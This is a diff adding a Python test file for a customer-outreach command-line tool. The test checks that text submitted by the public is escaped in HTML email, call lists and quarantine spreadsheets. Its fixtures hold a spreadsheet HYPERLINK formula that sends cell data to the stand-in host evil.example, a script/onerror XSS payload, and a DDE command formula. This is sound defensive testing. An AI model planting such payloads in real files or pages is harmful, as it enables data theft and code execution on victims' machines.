@@ -1,0 +1,95 @@
+"""Customer data written by the public reaching what people open: spreadsheet cells in the
+outbox lists and the quarantine, the HTML part of an email, a phone number that is not
+one (issue 12, first part). Through the console script, on real files."""
+
+from __future__ import annotations
+
+import csv
+import json
+import subprocess
+from pathlib import Path
+
+FORMULA = '=HYPERLINK("http://evil.example/?d="&B2,"Click me")'
+SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(2)>"
+PLAYBOOK = """version: 1
+name: t
+timezone: Asia/Shanghai
+locale: zh-CN
+rules:
+  - id: call
+    intent: service
+    segment: order_count >= 1
+    when: {immediate: true}
+    channel: phone
+    template: phone/call.j2
+    lawful_basis: contract
+  - id: mail
+    intent: care
+    segment: order_count >= 1
+    when: {immediate: true}
+    channel: email
+    template: email/hi.j2
+"""
+TEMPLATES = {
+    "phone/call.j2": "客户：{{ customer.name }}\n话术：问候。",
+    "email/hi.j2": "{% block subject %}您好{% endblock %}{% block text %}{{ customer.name }}，您好。{% endblock %}"
+                   "{% block html %}<p>{{ customer.name }}，您好。<a href=\"{{ unsubscribe_url }}\">退订</a></p>{% endblock %}",
+}
+CONFIG = """version: 1
+name: t
+default_locale: zh-CN
+timezone: Asia/Shanghai
+data: {orders: {path: orders.csv}, customers: {path: customers.csv}}
+channels:
+  phone: {outbox: out/calls}
+  email: {from: 店 <care@shop.example.cn>, unsubscribe_url: "https://shop.example.cn/u?a=1", outbox: out/email}
+"""
+
+
+def shop(root: Path) -> Path:
+    (root / "rules").mkdir(parents=True)
+    (root / "rules" / "t.yaml").write_text(PLAYBOOK, encoding="utf-8")
+    for name, text in TEMPLATES.items():
+        (root / "templates" / "zh-CN" / name).parent.mkdir(parents=True, exist_ok=True)
+        (root / "templates" / "zh-CN" / name).write_text(text, encoding="utf-8")
+    (root / "huitou.yaml").write_text(CONFIG, encoding="utf-8")
+    with open(root / "customers.csv", "w", encoding="utf-8", newline="") as handle:
+        writer = csv.writer(handle)
+        writer.writerow(["customer_id", "name", "phone", "email", "consent_email"])
+        writer.writerow(["a", FORMULA, "13800000001", "a@mail.example.cn", "true"])
+        writer.writerow(["b", SCRIPT, "+86 138-0000-0002", "b@mail.example.cn", "true"])
+        writer.writerow(["c", "王\x00芳", "=cmd|' /C calc'!A0", "c@mail.example.cn", "true"])
+        writer.writerow(["=1+2", "x", "13800000004", "", "false"])
+    (root / "orders.csv").write_text("order_id,customer_id,ordered_at,amount\no1,a,2026-11-01 10:00:00,10\no2,b,2026-11-01 10:00:00,10\n"
+                                     "o3,c,2026-11-01 10:00:00,10\no4,=1+2,2026-11-01 10:00:00,-5\n", encoding="utf-8")
+    return root
+
+
+def run(huitou_bin: str, root: Path, *args: str) -> subprocess.CompletedProcess:
+    done = subprocess.run([huitou_bin, *args], cwd=root, capture_output=True, text=True, timeout=120)
+    assert done.returncode in (0, 1), done.stderr
+    return done
+
+
+def test_public_text_is_harmless_in_spreadsheets_html_and_call_lists(huitou_bin: str, tmp_path: Path) -> None:
+    root = shop(tmp_path / "shop")
+    run(huitou_bin, root, "plan", "--as-of", "2026-11-02", "--horizon", "1d", "--out", "plan.jsonl")
+    rows = {(r["customer_id"], r["rule_id"]): r for r in map(json.loads, (root / "plan.jsonl").read_text(encoding="utf-8").splitlines())}
+    # a phone number that is not one is a suppressed candidate, never a call-list row
+    assert (rows[("c", "call")]["status"], rows[("c", "call")]["reason"]) == ("suppressed", "invalid_phone")
+    assert rows[("b", "call")]["status"] == "send"
+    # HTML escapes the public's text; the text part keeps it as written
+    html, text = rows[("b", "mail")]["content"]["html"], rows[("b", "mail")]["content"]["body"]
+    assert "<script>" not in html and "&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(2)&gt;" in html
+    assert "https://shop.example.cn/u?a=1&amp;c=b" in html and text.startswith(SCRIPT)
+    sent = run(huitou_bin, root, "send", "plan.jsonl", "--live", "--now", "2026-11-02T12:00", "--until", "2026-11-02")
+    assert "2 sent" in sent.stdout, sent.stdout
+    with open(next((root / "out" / "calls").glob("*.csv")), encoding="utf-8-sig", newline="") as handle:
+        calls = {r["customer_id"]: r for r in csv.DictReader(handle)}
+    assert set(calls) == {"a", "b"}
+    assert calls["a"]["name"] == "'" + FORMULA and calls["a"]["script"].startswith("客户：=HYPERLINK")
+    assert calls["b"]["phone"] == "'+86 138-0000-0002"
+    # the quarantine is opened in spreadsheets too
+    with open(root / ".huitou" / "quarantine" / "orders.csv", encoding="utf-8", newline="") as handle:
+        (rejected,) = list(csv.DictReader(handle))
+    assert rejected["customer_id"] == "'=1+2" and rejected["reason"] == "negative_amount"
